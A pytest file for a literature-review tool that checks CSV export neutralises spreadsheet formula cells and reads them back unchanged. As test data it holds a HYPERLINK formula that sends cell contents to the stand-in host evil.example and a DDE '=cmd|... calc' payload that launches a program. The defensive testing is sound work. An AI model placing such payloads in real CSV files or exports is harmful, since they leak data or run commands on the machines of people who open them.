"""Cells that a spreadsheet would run as formulas are written as text and read back unchanged."""

from __future__ import annotations

import csv

import pytest

from review_tools.csv_cells import from_cell, to_cell
from review_tools.forms import add_rows, read_rows
from review_tools.io.importer import import_file
from review_tools.io.writers import write_records
from review_tools.protocol import load_protocol
from review_tools.records import Record, assign_ids
from review_tools.screening import Decision, DecisionLog

from .test_dedup import decide
from .test_screening import ROOT

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.mark.parametrize("value", [ATTACK, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\nx", "'=already", "plain", "",
                                   "'quoted", "a=b"])
def test_round_trip(value: str) -> None:
    cell = to_cell(value)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    assert from_cell(cell) == value


def test_carriage_returns_become_line_feeds_so_the_row_stays_whole(tmp_path) -> None:
    """The csv writer (LF line ends) left a bare CR unquoted; reading the log back split the row."""
    protocol = load_protocol(ROOT / "review" / "protocol.yaml")
    log = DecisionLog(tmp_path / "screening", protocol, ["r1", "r2"])
    log.record([Decision("r1", "title_abstract", "anna", "exclude", ("E2",), note="\r=1+1 first\rsecond\r\nthird"),
                Decision("r2", "title_abstract", "anna", "include")])
    assert [(d.record_id, d.note) for d in log.read()] == [("r1", "\n=1+1 first\nsecond\nthird"), ("r2", "")]


def _cells(path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return [c for row in csv.reader(fh) for c in row]


def test_record_csv_neutralises_and_reimports(tmp_path) -> None:
    records = [Record(title=ATTACK, abstract="-0.5 change in @risk", authors=["=Smith, J"], year=2020,
                      journal="J", database="Scopus")]
    assign_ids(records)
    out = write_records(records, tmp_path / "records.csv")
    assert not any(c.startswith(("=", "-", "@")) for c in _cells(out))
    back = import_file(out).records
    assert (back[0].title, back[0].abstract, back[0].authors) == (ATTACK, records[0].abstract, ["=Smith, J"])


def test_decision_note_and_form_cells(tmp_path) -> None:
    protocol = load_protocol(ROOT / "review" / "protocol.yaml")
    log = DecisionLog(tmp_path / "screening", protocol, ["r1"])
    log.record([Decision("r1", "title_abstract", "anna", "exclude", ("E2",), note=ATTACK)])
    assert ATTACK not in _cells(log.path("title_abstract", "anna"))
    assert log.read()[0].note == ATTACK

    form = tmp_path / "extraction.csv"
    add_rows(form, ["record_id", "finding"], [{"record_id": "r1", "finding": "+12% retention"}])
    assert "+12% retention" not in _cells(form)
    assert read_rows(form)[1][0][1]["finding"] == "+12% retention"


def test_uncertain_pairs_rewrite_does_not_add_apostrophes(tmp_path) -> None:
    from review_tools import dedup

    base = dict(authors=["Smith, J.", "Doe, K."], year=2020, journal="Journal of Marketing")
    title = "=cmd|' /C calc'!A0 Customer segmentation in the pharmaceutical industry"
    records = [Record(title=title, volume="12", pages="100-110", **base), Record(title=title + " of Finland", **base)]
    assign_ids(records)
    result = dedup.deduplicate(records)
    assert len(result.uncertain) == 1
    path = dedup.write_uncertain(result, records, tmp_path / "uncertain_pairs.csv")
    decide(path, "distinct")
    for _ in range(2):
        dedup.write_uncertain(result, records, path)
    (row,) = csv.DictReader(path.open(encoding="utf-8"))
    assert {row["title_a"], row["title_b"]} == {"'" + r.title for r in records} and row["decision"] == "distinct"
